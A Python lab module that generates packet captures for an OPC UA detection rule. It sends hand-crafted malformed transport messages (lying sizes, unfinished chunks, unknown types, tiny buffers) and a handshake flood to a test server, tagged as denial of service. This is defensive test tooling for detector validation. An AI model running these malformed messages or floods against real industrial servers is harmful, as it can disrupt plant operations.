"""Proof captures of OPC UA transport abuse (UA14): bytes written by hand to a real server over real sockets."""

from __future__ import annotations

import socket
import struct
import time

from compose.plant.addresses import OPCUA_PORT, ip
from compose.plant.catalogue import capture
from compose.plant.lab import Lab
from compose.plant.opcua_cell import opcua_cell
from compose.plant.proofs_opcua import NORMAL

_POLICY_NONE = b"http://opcfoundation.org/UA/SecurityPolicy#None"
_URL = f"opc.tcp://{ip('opc')}:{OPCUA_PORT}/line1".encode()


def _string(text: bytes | None) -> bytes:
    return struct.pack("<i", -1) if text is None else struct.pack("<i", len(text)) + text


def message(kind: bytes, chunk: bytes, body: bytes, size: int | None = None) -> bytes:
    """Return a message chunk (OPC 10000-6, 7.1.2.2): type, chunk kind, size, body. size: a lie, None for the truth."""
    return kind + chunk + struct.pack("<I", 8 + len(body) if size is None else size) + body


def hello(buffer: int = 65535, message_size: int = 0, chunks: int = 0) -> bytes:
    """Return HEL (7.1.2.3)."""
    return message(b"HEL", b"F", struct.pack("<IIIII", 0, buffer, buffer, message_size, chunks) + _string(_URL))


def open_channel(request: int) -> bytes:
    """Return OPN for a channel without security (7.1.2.4, 10000-4 5.5.2)."""
    header = struct.pack("<I", 0) + _string(_POLICY_NONE) + _string(None) + _string(None)
    sequence = struct.pack("<II", request, request)
    request_header = (
        b"\x00\x00" + struct.pack("<qII", 0, request, 0) + _string(None) + struct.pack("<I", 5000) + b"\0\0\0"
    )
    body = b"\x01\x00" + struct.pack("<H", 446) + request_header + struct.pack("<III", 0, 0, 1) + _string(None)
    return message(b"OPN", b"F", header + sequence + body + struct.pack("<I", 3600000))


def _talk(pieces: list[bytes], pause: float = 0.05, hold: float = 0.3) -> None:
    with socket.create_connection((ip("opc"), OPCUA_PORT), timeout=2) as link:
        try:
            for piece in pieces:
                link.sendall(piece)
                time.sleep(pause)
            link.settimeout(hold)
            while link.recv(65536):
                continue
        except OSError:
            return  # the server hung up, or had nothing more to say


def _chunks(count: int) -> list[bytes]:
    symmetric = struct.pack("<II", 1, 1)
    return [message(b"MSG", b"C", symmetric + struct.pack("<II", 52 + n, 2) + b"\x41" * 600) for n in range(count)]


@capture(
    "opcua/transport-abuse.pcap",
    "Sizes and chunks that lie: message beyond the agreed size, chunks never finished, wrong type, half a header.",
    "opc hmi att",
    rules="UA14",
    learn=NORMAL,
    check={"ip.src==10.9.1.66 && tcp.flags.syn==1": 6},
)
def transport_abuse(lab: Lab) -> None:
    """Six connections, one oddity each."""
    start = [hello(), open_channel(51)]
    odd: dict[str, list[bytes]] = {
        "size of 256 MiB": [*start, message(b"MSG", b"F", b"\0" * 40, 0x10000000)],
        "chunk beyond the agreed buffer": [hello(8192), open_channel(51), message(b"MSG", b"F", b"\0" * 30000)],
        "chunks never finished": [*start, *_chunks(60)],
        "unknown message type": [hello(), message(b"XYZ", b"F", b"\0" * 24)],
        "message before hello": [_chunks(1)[0]],
        "buffer of 16 bytes": [hello(16)],
    }
    with opcua_cell(lab):
        for name, pieces in odd.items():
            with lab.step(name, "att", "opc", ["T0814", "T0819"], ["UA14"]):
                lab["att"].call(_talk, pieces)


@capture(
    "opcua/handshake-flood.pcap",
    "80 channels opened without a session and 80 bare hellos in ten seconds.",
    "opc hmi att",
    rules="UA14",
    learn=NORMAL,
    check={"ip.src==10.9.1.66 && opcua.transport.type==HEL": 150, "ip.src==10.9.1.66 && opcua.transport.type==OPN": 80},
)
def handshake_flood(lab: Lab) -> None:
    """16 connections a second."""

    def flood() -> None:
        for number in range(80):
            _talk([hello(), open_channel(51 + number)], 0.01, 0.04)
            _talk([hello()], 0.0, 0.04)

    with opcua_cell(lab), lab.step("handshake flood", "att", "opc", ["T0814"], ["UA14"]):
        lab["att"].call(flood)
